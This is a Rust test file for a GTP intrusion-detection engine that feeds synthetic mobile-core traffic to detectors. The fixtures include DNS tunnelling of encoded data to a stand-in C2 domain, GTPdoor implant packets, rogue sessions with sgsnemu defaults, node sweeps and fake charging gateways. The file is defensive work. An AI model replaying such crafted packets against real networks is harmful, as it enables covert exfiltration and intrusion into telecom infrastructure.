            findings(&a, 2021).is_superset(&replies) || frames_with(&a, 2021).is_superset(&replies),
            "size {size}: {:?} {:?}",
            findings(&a, 2021),
            frames_with(&a, 2021)
        );
        assert!(!findings(&a, 2021).is_empty());
    }
}

/// GTP on the other plane's port, GTP in GTP, and what is not GTP on a GTP port: the existing
/// 1003-1006 cover each.
#[test]
fn tunnel_abuse_and_non_gtp_on_gtp_ports_are_covered() {
    // G-PDU to the control port; GTPv1-C and GTPv2-C to the user port
    let cases = [
        Frame::at(1.0, udp(SGW, PGW, GTPU, GTPC, &gpdu(5, user_dns_packet()))),
        Frame::at(
            1.0,
            udp(
                SGW,
                PGW,
                GTPU,
                GTPU,
                &create_session_request(1, "234150123456789"),
            ),
        ),
        Frame::at(
            1.0,
            udp(
                SGW,
                PGW,
                GTPU,
                GTPU,
                &create_pdp_request(1, "234150123456789", "447700900123", ("a", "b"), SGW),
            ),
        ),
    ];
    for f in cases {
        assert!(ids(&run(no_policy(), &[f])).contains(&1006));
    }
    // GTP inside GTP-U, to each GTP port
    for port in [GTPC, GTPU, GTP_PRIME] {
        let inner = ipv4_udp(
            UE,
            [203, 0, 113, 77],
            2152,
            port,
            &echo_request_v2(1, vec![v2_recovery(1)]),
        );
        let a = ids(&run(no_policy(), &[gtpu_frame(1.0, SGW, PGW, 5, inner)]));
        assert!(a.contains(&1006), "{port}: {a:?}");
    }
    // DNS, HTTP and random bytes on each GTP port
    let payloads = [
        dns_query(0x1234, "www.example.com", 1),
        b"GET / HTTP/1.1\r\nHost: example.com\r\n\r\n".to_vec(),
        noise(3, 64),
        noise(4, 7),
    ];
    for port in [GTPC, GTPU, GTP_PRIME] {
        for p in &payloads {
            let a = ids(&run(
                no_policy(),
                &[Frame::at(1.0, udp(FOREIGN, PGW, 40000, port, p))],
            ));
            assert!(
                a.iter().any(|id| matches!(id, 1003..=1006)),
                "port {port}, {:02x?}: {a:?}",
                &p[..4]
            );
        }
    }
}

// ------------------------------------------------------------------ 4. rogue peers

/// A tunnel's alert tags that tunnel (the subscriber's queries and the resolver's answers),
/// not the other subscribers' packets between the same two gateways; an Echo channel's
/// alert tags the Echo path, not the peers' session signalling.
#[test]
fn a_tunnel_or_echo_alert_tags_its_own_flow_only() {
    let other: [u8; 4] = [10, 45, 0, 77];
    let mut frames = Vec::new();
    let mut tunnel = BTreeSet::new();
    let mut background = BTreeSet::new();
    for i in 0..30u32 {
        let ts = f64::from(i) * 2.0;
        let data = noise(i + 11, 30);
        let name = format!("{}.t.example-c2.net", labels(&base32(&data), 63));
        frames.push(dns_up(ts, 7, UE, &dns_query(i as u16, &name, 16)));
        tunnel.insert(frames.len() as u64);
        frames.push(dns_down(ts + 0.05, 8, UE, &dns_query(i as u16, &name, 16)));
        tunnel.insert(frames.len() as u64);
        // another subscriber, same gateways, ordinary lookups (both directions)
        let q = dns_query(1000 + i as u16, "www.example.com", 1);
        frames.push(dns_up(ts + 0.5, 9, other, &q));
        background.insert(frames.len() as u64);
        frames.push(dns_down(ts + 0.55, 10, other, &q));
        background.insert(frames.len() as u64);
    }
    let a = run(no_policy(), &frames);
    let reported: BTreeSet<u64> = a.iter().map(|x| x.frame).collect();
    assert!(ids(&a).contains(&2020), "{:?}", ids(&a));
    assert!(
        tunnel.is_subset(&reported),
        "tunnel frames not reported: {:?}",
        tunnel.difference(&reported).collect::<Vec<_>>()
    );
    assert!(
        background.is_disjoint(&reported),
        "another subscriber's frames reported: {:?}",
        background.intersection(&reported).collect::<Vec<_>>()
    );

    // an Echo channel between the gateways (private extensions changing whole each time)
    // beside a session they carry: the Echoes are reported, the session's messages are not
    let mut frames = Vec::new();
    let mut echoes = BTreeSet::new();
    let mut session = BTreeSet::new();
    for i in 0..8u32 {
        let ts = f64::from(i) * 60.0;
        let pe = v2_private_extension(9, &noise(i + 40, 12));
        frames.push(gtpc_frame(
            ts,
            SGW,
            PGW,
            &echo_request_v2(i, vec![v2_recovery(1), pe]),
        ));
        echoes.insert(frames.len() as u64);
        frames.push(gtpc_frame(
            ts + 0.01,
            PGW,
            SGW,
            &echo_response_v2(i, vec![v2_recovery(2)]),
        ));
        echoes.insert(frames.len() as u64);
        frames.push(gtpc_frame(
            // at no regular period (a Create every minute on the minute would be a beacon)
            ts + 1.0 + f64::from((i * 37) % 23),
            SGW,
            PGW,
            &create_session_request(100 + i, &format!("2341500000000{:02}", i)),
        ));
        session.insert(frames.len() as u64);
    }
    let a = run(no_policy(), &frames);
    let reported: BTreeSet<u64> = a.iter().map(|x| x.frame).collect();
    assert!(ids(&a).contains(&3025), "{:?}", ids(&a));
    assert!(
        session.is_disjoint(&reported),
        "session frames reported: {:?}",
        a.iter()
            .filter(|x| session.contains(&x.frame))
            .map(|x| (x.frame, x.sig.id(), x.tagged, x.evidence.to_string()))
            .collect::<Vec<_>>()
    );
    assert!(
        echoes.iter().filter(|f| reported.contains(f)).count() * 2 >= echoes.len(),
        "{:?} of {:?}",
        reported,
        echoes
    );
}

/// A node sweep's requests to every host, before and after its alert, and the hosts'
/// answers are reported with it; the gateways' own Echoes meanwhile are not.
#[test]
fn a_sweep_is_reported_whole() {
    let scanner: [u8; 4] = [198, 51, 100, 99];
    let mut frames = Vec::new();
    let mut sweep = BTreeSet::new();
    let mut keepalive = BTreeSet::new();
    for h in 0..70u8 {
        let ts = f64::from(h) * 0.3;
        let host = [10, 77, 0, 1 + h];
        let req = gtp_v1(1, 0, Some(u16::from(h)), vec![]);
        frames.push(Frame::at(ts, udp(scanner, host, 40_123, GTPC, &req)));
        sweep.insert(frames.len() as u64);
        if h % 5 == 0 {
            let resp = gtp_v1(2, 0, Some(u16::from(h)), vec![v1_ie(14, vec![3])]);
            frames.push(Frame::at(
                ts + 0.01,
                udp(host, scanner, GTPC, 40_123, &resp),
            ));
            sweep.insert(frames.len() as u64);
        }
        // a subscriber's user plane meanwhile (the first answers fall out of the messages
        // remembered by flow before the alert)
        for k in 0..2u32 {
            let t = ts + 0.05 + f64::from(k) * 0.01;
            frames.push(gtpu_frame(t, SGW, PGW, 0x55, user_dns_packet()));
            keepalive.insert(frames.len() as u64);
        }
        if h % 20 == 0 {
            frames.push(gtpc_frame(
                ts + 0.1,
                SGW,
                PGW,
                &echo_request_v2(u32::from(h), vec![v2_recovery(1)]),
            ));
            keepalive.insert(frames.len() as u64);
            frames.push(gtpc_frame(
                ts + 0.11,
                PGW,
                SGW,
                &echo_response_v2(u32::from(h), vec![v2_recovery(2)]),
            ));
            keepalive.insert(frames.len() as u64);
        }
    }
    let a = run(no_policy(), &frames);
    assert_eq!(findings(&a, 3026).len(), 1, "{:?}", ids(&a));
    assert_reported_whole(&a, &sweep, &keepalive);
}

/// A rogue whose Create names another address of its own for user traffic (its user-plane
/// node): that address's tunnels are the rogue's, found on their first packet, with the
/// Create reported as the session's start; a Create naming a declared node's user plane
/// marks nothing there.
#[test]
fn rogue_user_plane_from_another_address() {
    let control: [u8; 4] = [198, 51, 100, 25];
    let user: [u8; 4] = [198, 51, 100, 26];
    let v1 = create_pdp_request_split(
        7,
        "240010123456789",
        "46702123456",
        ("mig", "hemmelig"),
        control,
        user,
    );
    let v2 = create_session_request_split(7, "234150000000001", Some(user));
    for (name, create, with_policy) in [("v1", &v1, false), ("v1", &v1, true), ("v2", &v2, true)] {
        let frames = [
            gtpc_frame(1.0, control, PGW, create),
            gtpu_frame(2.0, user, PGW, 0x99, user_dns_packet()),
            gtpu_frame(2.1, PGW, user, 0x98, user_dns_packet()),
            gtpu_frame(5.0, user, PGW, 0x99, user_dns_packet()),
        ];
        let a = run(if with_policy { policy() } else { no_policy() }, &frames);
        assert_eq!(
            findings(&a, 3023),
            BTreeSet::from([2]),
            "{name} {with_policy}"
        );
        let ev = &a
            .iter()
            .find(|x| x.sig.id() == 3023 && !x.tagged)
            .unwrap()
            .evidence;
        assert_eq!(ev["peer"], "198.51.100.26", "{name}");
        assert_eq!(ev["control_peer"], "198.51.100.25", "{name}");
        // the Create and every packet of the rogue's user plane are reported (with the
        // policy, the undeclared node's finding, 3006, may flag the tunnel first)
        let reported: BTreeSet<u64> = a.iter().map(|x| x.frame).collect();
        assert_eq!(
            reported,
            BTreeSet::from([1, 2, 3, 4]),
            "{name} {with_policy}"
        );
        assert!(frames_with(&a, 3023).contains(&1), "{name} {with_policy}");
    }
    // a rogue naming the declared SGW's user plane: the SGW's own tunnels stay quiet
    let create = create_pdp_request_split(
        8,
        "234150000000001",
        "447700900555",
        ("user", "secret"),
        control,
        SGW,
    );
    let frames = [
        gtpc_frame(1.0, control, PGW, &create),
        gtpu_frame(2.0, SGW, PGW, 0x99, user_dns_packet()),
        gtpu_frame(2.1, PGW, SGW, 0x98, user_dns_packet()),
    ];
    assert!(!ids(&run(policy(), &frames)).contains(&3023));
}

#[test]
fn rogue_session_peers_then_user_plane() {
    let rogues = [[198, 51, 100, 66], [192, 0, 2, 200], [100, 64, 7, 1]];
    let subscribers = [
        ("240010123456789", "46702123456", ("mig", "hemmelig")),
        ("234150000000001", "447700900555", ("user", "secret")),
        ("310260123456789", "12025550100", ("", "")),
    ];
    for (r, rogue) in rogues.iter().enumerate() {
        let (imsi, msisdn, pap) = subscribers[r];
        let create = if r == 1 {
            create_session_request(10, imsi)
        } else {
            create_pdp_request(10, imsi, msisdn, pap, *rogue)
        };
        let frames = [
            gtpc_frame(1.0, *rogue, PGW, &create),
            gtpu_frame(2.0, *rogue, PGW, 0x99, user_dns_packet()),
            gtpu_frame(3.0, PGW, *rogue, 0x98, user_dns_packet()),
        ];
        let a = run(policy(), &frames);
        // found on the first user-plane message; the answer is tagged as its flow's
        assert_eq!(findings(&a, 3023), BTreeSet::from([2]), "{rogue:?}");
        // with the Create that set it up
        assert!(
            frames_with(&a, 3023).is_subset(&BTreeSet::from([1, 2, 3])),
            "{rogue:?}"
        );
        let ev = &a.iter().find(|x| x.sig.id() == 3023).unwrap().evidence;
        assert_eq!(ev["imsi"], imsi);
        if r == 0 {
            assert_eq!(
                ev["sgsnemu_defaults"],
                serde_json::json!(["imsi", "msisdn", "pap_login"])
            );
        }
        // without a policy who may create sessions is unknown: only sgsnemu's defaults
        // (the first peer's) stand in for the list
        let bare = run(no_policy(), &frames);
        if r == 0 {
            assert_eq!(findings(&bare, 3023), BTreeSet::from([2]), "{rogue:?}");
        } else {
            assert!(!ids(&bare).contains(&3023), "{rogue:?}");
        }
        // declared session peer and roaming partner: quiet, unless the Create carries a
        // test tool's defaults (then that Create alone is the finding: the peer's other
        // traffic is not tagged)
        for ok in [SGW, [198, 18, 4, 4]] {
            let frames = [
                gtpc_frame(1.0, ok, PGW, &create),
                gtpu_frame(2.0, ok, PGW, 0x99, user_dns_packet()),
            ];
            let got = run(policy(), &frames);
            if r == 0 {
                let reported: BTreeSet<u64> = got.iter().map(|x| x.frame).collect();
                assert_eq!(findings(&got, 3023), BTreeSet::from([1]), "{ok:?}");
                assert_eq!(reported, BTreeSet::from([1]), "{ok:?}");
            } else {
                assert!(!ids(&got).contains(&3023));
            }
        }
    }
    // without a policy, each of sgsnemu's defaults alone marks the creator
    for (imsi, msisdn, pap) in [
        ("240010123456789", "447700900555", ("user", "secret")),
        ("234150000000001", "46702123456", ("user", "secret")),
        ("234150000000001", "447700900555", ("mig", "hemmelig")),
    ] {
        let rogue = [192, 0, 2, 77];
        let frames = [
            gtpc_frame(
                1.0,
                rogue,
                PGW,
                &create_pdp_request(3, imsi, msisdn, pap, rogue),
            ),
            gtpu_frame(2.0, PGW, rogue, 0x42, user_dns_packet()),
        ];
        let a = run(no_policy(), &frames);
        assert_eq!(
            findings(&a, 3023),
            BTreeSet::from([2]),
            "{imsi} {msisdn} {pap:?}"
        );
    }
    // sgsnemu's defaults from a declared node: that Create alone is reported (a test tool
    // through a real node), the node's other traffic is not
    let frames = [
        gtpc_frame(
            1.0,
            SGW,
            PGW,
            &create_pdp_request(
                1,
                "240010123456789",
                "46702123456",
                ("mig", "hemmelig"),
                SGW,
            ),
        ),
        gtpu_frame(2.0, SGW, PGW, 0x99, user_dns_packet()),
    ];
    let got = run(policy(), &frames);
    assert_eq!(findings(&got, 3023), BTreeSet::from([1]));
    assert_eq!(got.len(), 1, "{:?}", ids(&got));
}

#[test]
fn cdrs_to_an_undeclared_charging_gateway() {
    let cgs = [[198, 51, 100, 9], [203, 0, 113, 201], [192, 0, 2, 1]];
    for (i, cg) in cgs.iter().enumerate() {
        let drt = gtp_prime_drt(i as u16, &noise(i as u32 + 1, 80 + 40 * i));
        let f = Frame::at(1.0, udp(PGW, *cg, GTP_PRIME, GTP_PRIME, &drt));
        assert!(
            ids(&run(policy(), std::slice::from_ref(&f))).contains(&3024),
            "{cg:?}"
        );
        // no charging gateways declared: not judged
        assert!(!ids(&run(no_policy(), &[f])).contains(&3024));
        // the same transfer behind a GTPv0 header (20 octets: flags 0x1e, type 240)
        let body = drt.get(6..).unwrap_or_default();
        let mut v0 = vec![0x1e, 240];
        v0.extend_from_slice(&(body.len() as u16).to_be_bytes());
        v0.extend_from_slice(&(i as u16).to_be_bytes());
        v0.extend_from_slice(&[0, 0, 0xff, 0xff, 0xff, 0xff]);
        v0.extend_from_slice(&[0x32, 0x54, 0x10, 0x32, 0x54, 0x76, 0x98, 0xf0]);
        v0.extend_from_slice(body);
        let f = Frame::at(1.0, udp(PGW, *cg, GTP_PRIME, GTP_PRIME, &v0));
        let got = ids(&run(policy(), std::slice::from_ref(&f)));
        assert!(got.contains(&3024), "v0 {cg:?}: {got:?}");
    }
    // over TCP (port 3386), two transfers back to back in one segment: each is a message,
    // each reported; to the declared gateway, quiet
    let mut two = gtp_prime_drt(7, &noise(40, 120));
    two.extend(gtp_prime_drt(8, &noise(41, 60)));
    for (cg, found) in [([198, 51, 100, 9], true), ([203, 0, 113, 200], false)] {
        let seg = tcp_segment(
            PGW,
            cg,
            40001,
            GTP_PRIME,
            (false, true, false, false),
            0,
            false,
            &two,
        );
        let a = run(policy(), &[Frame::at(1.0, seg)]);
        let n = a.iter().filter(|x| x.sig.id() == 3024).count();
        assert_eq!(n, if found { 2 } else { 0 }, "{cg:?}: {:?}", ids(&a));
    }
    let ok = Frame::at(
        1.0,
        udp(
            PGW,
            [203, 0, 113, 200],
            GTP_PRIME,
            GTP_PRIME,
            &gtp_prime_drt(1, &noise(1, 80)),
        ),
    );
    assert!(run(policy(), &[ok]).is_empty());
}

/// The rest of GTP' between nodes that no declared charging gateway is part of: a fake
/// gateway announcing itself (Node Alive Request, TS 32.295 6.2.3) or redirecting records to
/// itself (Redirection Request) is 3024; the declared gateway's own are quiet, and so is an
/// Echo.
#[test]
fn gtp_prime_from_an_undeclared_charging_gateway() {
    use sigscope_gtp::prime::{PrimeIeRepr, PrimeRepr, PRIME_V2_FLAGS};
    const NODE_ALIVE_REQUEST: u8 = 4;
    const REDIRECTION_REQUEST: u8 = 6;
    const IE_CAUSE: u8 = 1;
    const IE_NODE_ADDRESS: u8 = 251;
    let fake = [203, 0, 113, 41];
    let declared = [203, 0, 113, 200];
    let prime = |msg_type: u8, ies: Vec<PrimeIeRepr>| {
        let mut out = Vec::new();
        PrimeRepr {
            flags: PRIME_V2_FLAGS,
            msg_type,
            seq: 7,
            ies,
        }
        .emit(&mut out)
        .unwrap();
        out
    };
    let alive = |from: [u8; 4]| {
        prime(
            NODE_ALIVE_REQUEST,
            vec![PrimeIeRepr {
                ie_type: IE_NODE_ADDRESS,
                value: from.to_vec(),
            }],
        )
    };
    let redirect = prime(
        REDIRECTION_REQUEST,
        vec![PrimeIeRepr {
            ie_type: IE_CAUSE,
            value: vec![0x80],
        }],
    );
    for p in [alive(fake), redirect.clone()] {
        let f = Frame::at(1.0, udp(fake, PGW, GTP_PRIME, GTP_PRIME, &p));
        let got = ids(&run(policy(), std::slice::from_ref(&f)));
        assert!(got.contains(&3024), "{got:?}");
    }
    for p in [alive(declared), redirect] {
        let f = Frame::at(1.0, udp(declared, PGW, GTP_PRIME, GTP_PRIME, &p));
        assert!(!ids(&run(policy(), &[f])).contains(&3024));
    }
}

// ------------------------------------------------------------------ 5. jittered echo beacons

/// A jitter in [-20 %, +20 %] (deterministic).
fn jitter(i: u32, seed: u32) -> f64 {
    let n = noise(seed * 1000 + i + 1, 1)[0];
    (f64::from(n) / 255.0 - 0.5) * 0.4
}

#[test]
fn jittered_echo_beacons_between_undeclared_peers() {
    for (k, period) in [10.0f64, 30.0, 60.0, 300.0].into_iter().enumerate() {
        for (v, version) in [1u8, 2].into_iter().enumerate() {
            let peer = [198, 51, 100, 100 + (k * 2 + v) as u8];
            let mut frames = Vec::new();
            let mut ts = 100.0;
            for i in 0..12u32 {
                ts += period * (1.0 + jitter(i, (k * 2 + v) as u32));
                let pe = noise(i + 1, 2 + (i as usize * 7) % 13);
                let p = if version == 2 {
                    echo_request_v2(i, vec![v2_recovery(1), v2_private_extension(1, &pe)])
                } else {
                    let mut val = 1u16.to_be_bytes().to_vec();
                    val.extend(pe);
                    gtp_v1(1, 0, Some(i as u16), vec![v1_ie(255, val)])
                };
                frames.push(gtpc_frame(ts, peer, PGW, &p));
            }
            let a = run(no_policy(), &frames);
            let b: Vec<_> = a.iter().filter(|x| x.sig.id() == 3005).collect();
            assert_eq!(b.len(), 1, "period {period} v{version}: {:?}", ids(&a));
            assert_eq!(b[0].evidence["timing"]["jittered"], true);
        }
    }
}

#[test]
fn periodic_echoes_of_real_nodes_stay_quiet() {
    // declared peers (policy), peers that carry sessions (no policy), constant-size echoes
    // between undeclared peers (a keepalive), all with jitter
    let mut frames = Vec::new();
    frames.push(gtpc_frame(
        1.0,
        SGW,
        PGW,
        &create_session_request(1, "234150123456789"),
    ));
    let mut ts = 10.0;
    for i in 0..40u32 {
        ts += 60.0 * (1.0 + jitter(i, 9));
        let size = 1 + (i as usize % 5);
        frames.push(gtpc_frame(
            ts,
            SGW,
            PGW,
            &echo_request_v2(
                i,
                vec![v2_recovery(1), v2_private_extension(10415, &vec![0; size])],
            ),
        ));
        frames.push(gtpc_frame(
            ts + 0.01,
            PGW,
            SGW,
            &echo_response_v2(i, vec![v2_recovery(1)]),
        ));
        frames.push(gtpc_frame(
            ts + 0.02,
            FOREIGN,
            PGW,
            &echo_request_v2(i, vec![v2_recovery(2)]),
        ));
    }
    assert!(!ids(&run(no_policy(), &frames)).contains(&3005));
    assert!(!ids(&run(policy(), &frames)).contains(&3005));
}

// ------------------------------------------------------------------ benign mix

/// More than 10,000 benign messages: echoes between peers with sessions (v1 and v2, GTP-C and
/// GTP-U), Create Session / Create PDP Context from declared nodes, user plane with ordinary
/// DNS (A / AAAA for everyday names, and their answers), pings, TCP, and GTP' CDRs to the
/// declared charging gateway. At most one alerted message per 10,000.
#[test]
fn benign_mix_stays_quiet() {
    let names = [
        "www.example.com",
        "mail.google.com",
        "apac-asia-courier-vs.push-apple.com.akadns.net",
        "r3---sn-4g5e6nsz.googlevideo.com",
        "ec2-54-234-123-45.compute-1.amazonaws.com",
        "connectivitycheck.gstatic.com",
        "graph.facebook.com",
        "e6858.dscx.akamaiedge.net",
        "www.bbc.co.uk",
        "api.twitter.com",
        "clients4.google.com",
        "time.android.com",
        "d1a2b3c4.cloudfront.net",
        "4.3.2.10.in-addr.arpa",
        "outlook.office365.com",
        "b.a.9.8.7.6.5.0.4.0.0.0.3.0.0.0.2.0.0.0.1.0.0.0.0.0.0.0.1.2.3.4.ip6.arpa",
    ];
    let sessions = [SGW, [203, 0, 113, 6], [203, 0, 113, 7], [198, 18, 9, 9]];
    let mut frames = Vec::new();
    let mut ts = 1000.0;
    let mut i = 0u32;
    while frames.len() < 12_000 {
        i += 1;
        ts += 0.05;
        let node = sessions[i as usize % sessions.len()];
        let ue = [10, 45, (i / 200) as u8, (i % 200) as u8 + 1];
        let teid = 0x100 + i % 500;
        match i % 12 {
            0 => frames.push(gtpc_frame(
                ts,
                node,
                PGW,
                &create_session_request(i, "234150123456789"),
            )),
            1 => frames.push(gtpc_frame(
                ts,
                node,
                PGW,
                &create_pdp_request(
                    i as u16,
                    "234150123456789",
                    "447700900123",
                    ("web", "web"),
                    node,
                ),
            )),
            2..=4 => {
                let name = names[(i as usize / 12 + i as usize) % names.len()];
                let qtype = if i % 2 == 0 { 1 } else { 28 };
                frames.push(dns_up(ts, teid, ue, &dns_query(i as u16, name, qtype)));
                let rdata: &[u8] = if qtype == 1 {
                    &[93, 184, 216, 34]
                } else {
                    &[
                        0x26, 6, 0x28, 0, 0x2, 0x20, 0, 1, 0x2, 0x48, 0x18, 0x93, 0x25, 0xc8, 0x19,
                        0x46,
                    ]
                };
                frames.push(dns_down(
                    ts + 0.01,
                    teid,
                    ue,
                    &dns_response(i as u16, name, qtype, qtype, 300, rdata),
                ));
            }
            5 => frames.push(gtpu_frame(
                ts,
                node,
                PGW,
                teid,
                icmpv4_echo(ue, [192, 0, 2, 99], i as u16, &ping_payload(56, i)),
            )),
            6 => frames.push(gtpu_frame(
                ts,
                node,
                PGW,
                teid,
                ipv4_udp(ue, [192, 0, 2, 80], 50000, 443, &noise(i, 200)),
            )),
            7 => {
                let seq = (i / 12) as u16;
                frames.push(gtpc_frame(ts, node, PGW, &gtp_v1(1, 0, Some(seq), vec![])));
                frames.push(gtpc_frame(
                    ts + 0.01,
                    PGW,
                    node,
                    &gtp_v1(2, 0, Some(seq), vec![v1_ie(14, vec![3])]),
                ));
            }
            8 => {
                frames.push(gtpc_frame(
                    ts,
                    node,
                    PGW,
                    &echo_request_v2(i, vec![v2_recovery(4), v2_node_features(1)]),
                ));
                frames.push(gtpc_frame(
                    ts + 0.01,
                    PGW,
                    node,
                    &echo_response_v2(i, vec![v2_recovery(4)]),
                ));
            }
            9 => frames.push(Frame::at(
                ts,
                udp(
                    PGW,
                    [203, 0, 113, 200],
                    GTP_PRIME,
                    GTP_PRIME,
                    &gtp_prime_drt(i as u16, &noise(i, 120)),
                ),
            )),
            10 => frames.push(Frame::at(
                ts,
                tcp_segment(
                    node,
                    PGW,
                    40000,
                    22,
                    (false, true, true, false),
                    0,
                    false,
                    &[],
                ),
            )),
            _ => frames.push(gtpu_frame(
                ts,
                PGW,
                node,
                teid,
                icmpv4_echo([192, 0, 2, 99], ue, i as u16, &ping_payload(64, i)),
            )),
        }
    }
    for p in [policy(), no_policy()] {
        let a = run(p, &frames);
        let alerted: BTreeSet<u64> = a
            .iter()
            .filter(|x| is_new(x.sig.id()) || x.sig.id() == 3005)
            .map(|x| x.frame)
            .collect();
        println!(
            "benign mix: {} messages, {} alerted by the new detectors: {:?}",
            frames.len(),
            alerted.len(),
            ids(&a)
        );
        assert!(
            alerted.len() * 10_000 <= frames.len(),
            "{:?}",
            a.iter()
                .map(|x| (x.sig.id(), x.frame, x.evidence.to_string()))
                .take(5)
                .collect::<Vec<_>>()
        );
    }
}

// ------------------------------------------------------------------ real captures

/// The new detectors raise no severity-1/2 alert on any real capture.
#[test]
fn no_new_high_alerts_on_real_captures() {
    let dir = match std::env::var_os("SIGSCOPE_CAPTURES") {
        Some(p) => std::path::PathBuf::from(p),
        None => std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/captures"),
    };
    let Ok(manifest) = std::fs::read_to_string(dir.join("MANIFEST.tsv")) else {
        eprintln!(
            "skipping: no captures at {} (set SIGSCOPE_CAPTURES)",
            dir.display()
        );
        return;
    };
    let mut files = 0;
    let mut messages = 0u64;
    for line in manifest.lines().skip(1) {
        let Some(rel) = line.split('\t').next() else {
            continue;
        };
        let Ok(mut r) = sigscope_capture::Reader::open(&dir.join(rel)) else {
            continue;
        };
        let mut d = sigscope_decode::Decoder::new(sigscope_decode::Options::default());
        let mut e = Engine::new(Policy::default());
        let mut bad = Vec::new();
        while let Ok(Some(p)) = r.next_packet() {
            d.packet(&p, &mut |m| {
                messages += 1;
                e.observe(m, &mut |a| {
                    if (is_new(a.sig.id()) || a.sig.id() == 3005) && a.sig.severity() <= 2 {
                        bad.push((a.sig.id(), a.frame));
                    }
                })
            });
        }
        assert!(bad.is_empty(), "{rel}: {bad:?}");
        files += 1;
    }
    println!("{files} captures, {messages} messages: no new severity-1/2 alert");
}

/// 1001 in every version: GTPv1, GTPv2, GTPv0 and GTP' Echoes carrying an IMSI.
#[test]
fn echo_unexpected_ie_in_every_version() {
    let imsi = tbcd("234150123456789");
    let mut body = vec![2];
    body.extend_from_slice(&imsi);
    let with_len = |mut h: Vec<u8>, at: usize, body: &[u8]| {
        h[at..at + 2].copy_from_slice(&(body.len() as u16).to_be_bytes());
        h.extend_from_slice(body);
        h
    };
    // GTP' version 2, 6-octet header, carrying a Cause (TV 1 in GTP' numbering; an IMSI is
    // no GTP' IE: such a body is not an IE sequence, 1020)
    let prime = with_len(vec![0x4e, 1, 0, 0, 0, 7], 2, &[1, 128, 14, 3]);
    let prime_imsi = with_len(vec![0x4e, 1, 0, 0, 0, 7], 2, &body);
    let a = ids(&run(
        no_policy(),
        &[Frame::at(
            1.0,
            udp(FOREIGN, PGW, GTP_PRIME, GTP_PRIME, &prime_imsi),
        )],
    ));
    assert!(a.contains(&1020), "{a:?}");
    // GTPv0, 20-octet header
    let mut v0h = vec![0x1e, 1, 0, 0, 0, 7, 0, 0, 0xff, 0xff, 0xff, 0xff];
    v0h.extend_from_slice(&[0xff; 8]);
    let v0 = with_len(v0h, 2, &body);
    for (p, port) in [(prime, GTP_PRIME), (v0, GTP_PRIME)] {
        let a = ids(&run(
            no_policy(),
            &[Frame::at(1.0, udp(FOREIGN, PGW, port, port, &p))],
        ));
        assert!(a.contains(&1001), "{p:02x?}: {a:?}");
    }
    let v1 = gtp_v1(1, 0, Some(1), vec![v1_ie(2, imsi.clone())]);
    let v2 = echo_request_v2(1, vec![v2_recovery(1), v2_imsi("234150123456789")]);
    for p in [v1, v2] {
        assert!(ids(&run(no_policy(), &[gtpc_frame(1.0, FOREIGN, PGW, &p)])).contains(&1001));
    }
    // GTP' Echo Response with Recovery only: quiet
    let ok = with_len(vec![0x4e, 2, 0, 0, 0, 7], 2, &[14, 3]);
    assert!(run(
        no_policy(),
        &[Frame::at(1.0, udp(PGW, FOREIGN, GTP_PRIME, GTP_PRIME, &ok))]
    )
    .is_empty());
}

/// Variants that move away from the first implant: the frame behind the header actually sent
/// (12 octets: GTPv1 with S), raw-octet DNS labels (iodine's base128), ICMP carrying plain text.
#[test]
fn variants_beyond_the_first_samples() {
    for key in [GTPDOOR_DEFAULT_KEY, 0x600d_cafe, 3] {
        let mut p = gtpdoor_magic(DoorHeader::V1Seq, 1, key, 2, &noise(key, 40), [0; 9], 0);
        p.splice(8..8, [0, 1, 0, 0]);
        let l = (p.len() - 8) as u16;
        p[2..4].copy_from_slice(&l.to_be_bytes());
        let a = run(no_policy(), &[gtpc_frame(1.0, FOREIGN, PGW, &p)]);
        assert!(ids(&a).contains(&1022), "{key}: {:?}", ids(&a));
    }
    // iodine-style raw labels (octets 0xbc-0xfd mixed with letters)
    let frames: Vec<Frame> = (0..5u32)
        .map(|i| {
            let raw: Vec<u8> = noise(i * 977 + 5, 50)
                .iter()
                .map(|b| {
                    if b % 3 == 0 {
                        b'a' + b % 26
                    } else {
                        0xbc + b % 0x42
                    }
                })
                .collect();
            dns_up(
                f64::from(i),
                4,
                UE,
                &dns_query_raw(i as u16, &[&raw, b"t", b"pirate", b"sea"], 10),
            )
        })
        .collect();
    assert_eq!(frames_with(&run(no_policy(), &frames), 2020).len(), 5);
    // an ICMP tunnel carrying plain HTTP
    let text = b"GET /index.html HTTP/1.1\r\nHost: intranet.example\r\nUser-Agent: curl/8.0\r\nAccept: */*\r\nCookie: session=q8Zt2LmN4\r\n\r\n".repeat(3);
    let f = gtpu_frame(1.0, SGW, PGW, 9, icmpv4_echo(UE, [192, 0, 2, 99], 1, &text));
    let a = run(no_policy(), &[f]);
    assert_eq!(frames_with(&a, 2021), BTreeSet::from([1]), "{:?}", ids(&a));
}

// ------------------------------------------------------------------ 6. node discovery

/// GTP node discovery (3026): one address sending Echo Requests to many addresses within a
/// minute while taking part in no session — GTPv1-C in address order (SigPloit-style), GTP-U
/// echoes, GTPv2 in random order with half of the nodes answering, and sweeps paced under the
/// minute's count (over the slow window). A gateway echoing its many eNodeBs (it carries
/// their user plane), a sweep slower than both windows, and a node echoing a handful of peers
/// stay quiet.
#[test]
fn gtp_node_discovery_sweeps() {
    let scanner = [198, 51, 100, 99];
    let target = |i: u32| [10, 20, (i / 250) as u8, (i % 250 + 1) as u8];
    let v1_echo = |seq: u16| {
        gtp_v1(
            sigscope_gtp::v1::MsgType::ECHO_REQUEST.0,
            0,
            Some(seq),
            vec![],
        )
    };
    let echo_v1 = |ts: f64, to: [u8; 4], port: u16, seq: u16| {
        Frame::at(ts, udp(scanner, to, 40000, port, &v1_echo(seq)))
    };
    // 1. GTPv1-C, 254 addresses in order, 10 ms apart
    let ordered: Vec<Frame> = (0..254)
        .map(|i| echo_v1(1.0 + f64::from(i) * 0.01, target(i), GTPC, i as u16))
        .collect();
    // 2. GTP-U echoes to 40 addresses
    let user: Vec<Frame> = (0..40)
        .map(|i| echo_v1(1.0 + f64::from(i) * 0.5, target(i), GTPU, i as u16))
        .collect();
    // 3. GTPv2 in a scrambled order over 50 s, every other node answering
    let mut v2 = Vec::new();
    for k in 0..40u32 {
        let i = (k * 17) % 40;
        let ts = 1.0 + f64::from(k) * 1.25;
        v2.push(Frame::at(
            ts,
            udp(
                scanner,
                target(i),
                40001,
                GTPC,
                &echo_request_v2(k, vec![v2_recovery(1)]),
            ),
        ));
        if k % 2 == 0 {
            v2.push(Frame::at(
                ts + 0.01,
                udp(
                    target(i),
                    scanner,
                    GTPC,
                    40001,
                    &echo_response_v2(k, vec![v2_recovery(9)]),
                ),
            ));
        }
    }
